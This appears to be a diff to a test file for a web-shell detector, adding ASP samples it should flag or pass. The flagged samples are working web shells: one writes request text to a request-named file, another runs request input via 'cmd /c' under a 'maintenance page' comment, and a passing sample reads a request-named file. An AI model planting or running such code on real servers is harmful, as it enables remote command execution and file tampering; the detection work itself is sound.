@@ -8,6 +8,11 @@ const analyze = (fileName: string, text: string) =>
 
 const HITS: readonly (readonly [name: string, fileName: string, text: string])[] = [
   [
+    'a text of the request, written on under a name of the request',
+    'page.asp',
+    '<form method="post"><textarea name="t"></textarea><input name="n"></form>\n<%\nt = Request("t")\nn = Request("n")\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath(n), 8, True)\ns.WriteLine t\ns.Close\n%>\n',
+  ],
+  [
     'a function of the page runs what it is handed',
     'page.asp',
     '<!-- maintenance page -->\n<%\nFunction runIt(line)\n  Dim sh, p\n  Set sh = CreateObject("WScript.Shell")\n  Set p = sh.exec(line)\n  runIt = p.StdOut.ReadAll\nEnd Function\n%>\n<html><body><form method=get><input name="q"><input type=submit></form>\n<pre><%\nwhat = request("q")\nResponse.Write(runIt("cmd /c " & what))\n%></pre></body></html>\n',
@@ -249,6 +254,16 @@ const MISSES: readonly (readonly [name: string, fileName: string, text: string])
     'a table of functions that have names',
     'page.php',
     "<?php\n$map = ['up' => 'render_' . 'list', 'down' => 'render_' . 'table'];\n$act = $map[$_GET['m']] ?? 'render_list';\necho htmlspecialchars($_GET['q']);\necho $act();\n",
+  ],
+  [
+    'a log that is written on',
+    'page.asp',
+    '<%\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath("log/visits.txt"), 8, True)\ns.WriteLine Request("page")\ns.Close\n%>\n',
+  ],
+  [
+    'a file of the request that is only read',
+    'page.asp',
+    '<%\nName = Request("page")\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath(Name), 1)\nResponse.Write s.ReadAll\ns.Close\n%>\n',
   ],
   [
     'a log under a name of its own',
